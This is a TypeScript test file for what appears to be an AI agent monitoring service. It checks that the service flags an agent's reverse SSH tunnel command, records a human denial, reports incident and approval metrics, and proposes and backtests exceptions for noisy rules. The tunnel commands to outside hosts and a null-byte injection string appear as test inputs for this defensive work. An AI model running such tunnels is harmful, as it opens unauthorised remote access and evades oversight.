// An episode comes in over HTTP and is worked on: what the numbers say of it afterwards, out of a real log.
import { afterAll, beforeAll, expect, it } from 'vitest'
import { FlagView } from './protocol/flag-view.ts'
import { IncidentList } from './protocol/incident.ts'
import { JobsAnswer } from './protocol/job.ts'
import { NumbersView } from './protocol/numbers-view.ts'
import { ProposalView } from './protocol/proposal-view.ts'
import { BacktestView } from './protocol/rule-view.ts'
import { startForTest, type TestServer, testAdmin } from './start-for-test.ts'

let server: TestServer
beforeAll(async () => {
  server = await startForTest()
})
afterAll(() => server.stop())

const session = 'ep-7f3a91'
const json = { 'content-type': 'application/json' }
const tunnel = 'ssh -fN -R 2222:127.0.0.1:22 ops@203.0.113.40'
const get = async (path: string) => (await server.api(path)).json() as Promise<Record<string, unknown>>
const post = (path: string, body: object, headers: Record<string, string> = {}) =>
  server.api(path, { method: 'POST', headers: { ...json, ...headers }, body: JSON.stringify(body) })
const flagsOf = async (query: string) => FlagView.array().parse((await get(`/api/flags?${query}`)).flags)

it('tells what was measured, counts what is open, and says nothing of days on which nothing was heard', async () => {
  // given: an agent that opens a tunnel, in words with a \u0000 in them, and asks for another
  const atMs = Date.now()
  const said = { v: 1, atMs, session }
  await server.api('/api/ingest/events', {
    method: 'POST',
    body: [
      { ...said, kind: 'session.started', data: { held: 'none', abilities: [] } },
      { ...said, kind: 'action.started', data: { call: 'c1', tool: 'shell', input: `${tunnel} # \u0000 "rule":"x"` } },
    ]
      .map((each) => JSON.stringify(each))
      .join('\n'),
  })
  await expect
    .poll(async () => IncidentList.parse(await get('/api/incidents')).incidents.length, { timeout: 10_000 })
    .toBe(1)
  const asked = post('/api/gate', {
    session,
    callId: 'c2',
    tool: 'Bash',
    input: { command: tunnel },
    deadlineMs: 20_000,
  })
  await expect
    .poll(async () => (await get('/api/approvals?state=waiting')).approvals, { timeout: 10_000 })
    .toHaveLength(1)
  // when: a person acknowledges, judges and denies
  await post('/api/incidents/INC-1/changes', { type: 'acknowledge' })
  const [flag] = await flagsOf(`session=${session}`)
  await post(`/api/flags/${flag?.id}/verdict`, { verdict: 'true' })
  const [waiting] = (await get('/api/approvals?state=waiting')).approvals as { approval: string; digest: string }[]
  const signedIn = await post('/api/auth/sign-in/email', testAdmin, { origin: server.url })
  const cookie = signedIn.headers
    .getSetCookie()
    .map((each) => each.split(';', 1)[0])
    .join('; ')
  const denied = await fetch(`${server.url}/api/approvals/${waiting?.approval}/decision`, {
    method: 'POST',
    headers: { ...json, origin: server.url, cookie },
    body: JSON.stringify({ decision: 'deny', digest: waiting?.digest }),
  })
  expect(denied.status).toBe(200)
  await asked
  // then
  const numbers = NumbersView.parse(await get('/api/numbers?days=7'))
  expect(numbers.steps.map(({ heardDays }) => heardDays)).toEqual([0, 0, 0, 0, 0, 0, 1])
  expect(numbers.incidents.all).toMatchObject({
    incidents: 1,
    detect: { measured: 1 },
    acknowledge: { measured: 1 },
    contain: { measured: 0, open: 1 },
  })
  const rule = numbers.flags.rules.find((each) => each.rule === flag?.rule)
  expect(rule?.title).toBe(flag?.title)
  expect(rule?.perStep.slice(0, 6)).toEqual([null, null, null, null, null, null])
  expect(rule?.perStep[6]).toBeGreaterThan(0)
  expect(numbers.flags.unreadable).toBe(0)
  expect(numbers.precision.rules).toMatchObject([{ rule: flag?.rule, verdicts: { true: 1 }, precision: 1 }])
  expect(numbers.approvals).toMatchObject({ all: { asked: 1, denied: 1, waiting: 0 }, unreadable: 0 })
  expect(numbers.approvals.all.wait?.medianMs).toBeGreaterThan(0)
  // and what is behind a point is found: all flags of that rule in that span, with what was said of them
  const span = numbers.steps.at(-1)
  const behind = await flagsOf(`rule=${flag?.rule}&since=${span?.fromMs}&until=${span?.toMs}`)
  expect(behind.length).toBe(rule?.perStep[6])
  expect(behind.find(({ id }) => id === flag?.id)?.verdict?.verdict).toBe('true')
  expect(await flagsOf(`rule=${flag?.rule}&since=0&until=${span?.fromMs}`)).toEqual([])
  // and its table is a file
  const csv = await server.api('/api/numbers/csv/approvals?days=7')
  expect(csv.headers.get('content-disposition')).toContain('vigil-approvals-7-days.csv')
  expect((await csv.text()).trimEnd().split('\r\n')).toHaveLength(8)
  expect((await server.api('/api/numbers?days=8')).status).toBe(422)
})

it('proposes an exception from what was noise, tries it on the log, and proposes none that a flag judged true would fit', async () => {
  // given: two like actions of another run that somebody calls noise, beside the tunnel that was judged true
  const labels = { run: 'build-farm', task: 'nightly' }
  const action = (n: number) => ({
    v: 1,
    atMs: Date.now(),
    session: 'ep-build',
    kind: 'action.started',
    data: { call: `b${n}`, tool: 'shell', input: `ssh -fN -R 900${n}:127.0.0.1:22 build@203.0.113.9` },
  })
  const started = { v: 1, atMs: Date.now(), session: 'ep-build', kind: 'session.started' }
  await server.api('/api/ingest/events', {
    method: 'POST',
    body: [{ ...started, data: { held: 'none', abilities: [], labels } }, action(1), action(2)]
      .map((each) => JSON.stringify(each))
      .join('\n'),
  })
  const [real] = await flagsOf(`session=${session}`)
  const noise = async () => (await flagsOf('session=ep-build')).filter(({ rule }) => rule === real?.rule)
  await expect.poll(async () => (await noise()).length, { timeout: 10_000 }).toBe(2)
  const path = `/api/rules/${real?.rule}`
  expect(await get(`${path}/proposal`)).toMatchObject({ real: 1, noise: 0, none: 'too-few' })
  // when
  for (const { id } of await noise()) await post(`/api/flags/${id}/verdict`, { verdict: 'false' })
  const found = ProposalView.parse(await get(`${path}/proposal`))
  // then: it fits both of them, and not the true one
  expect(found).toMatchObject({ noise: 2, real: 1, proposal: { hides: 2 } })
  const when = found.proposal?.when ?? []
  // and what it would have hidden is exactly those
  const { id } = (await (await post(`${path}/exceptions/backtest`, { when, hours: 1 })).json()) as { id: string }
  const ended = async () => BacktestView.parse(await get(`/api/backtests/${id}`))
  await expect.poll(async () => (await ended()).state, { timeout: 10_000 }).toBe('done')
  const { disappeared } = await ended()
  // it stands in the list of long work, for whoever wants to see or end it
  const { jobs } = JobsAnswer.parse(await get('/api/jobs'))
  expect(jobs.find((job) => job.id === id)).toMatchObject({
    kind: 'backtest',
    state: 'done',
    result: { href: `/rules/rule?id=${real?.rule}` },
  })
  expect(JSON.stringify(await get('/api/audit?q=job.started'))).toContain(id)
  expect(disappeared.map(({ verdict }) => verdict)).toEqual(['false', 'false'])
  // and once a flag of the same kind is judged true there is none any more
  const [turned] = await noise()
  await post(`/api/flags/${turned?.id}/verdict`, { verdict: 'true' })
  expect(await get(`${path}/proposal`)).toMatchObject({ noise: 1, real: 2, none: 'too-few' })
  const wrong = await post(`${path}/exceptions/backtest`, {
    when: [{ field: 'Nonsense', how: 'equals', value: 'x' }],
    hours: 1,
  })
  expect(wrong.status).toBe(422)
})
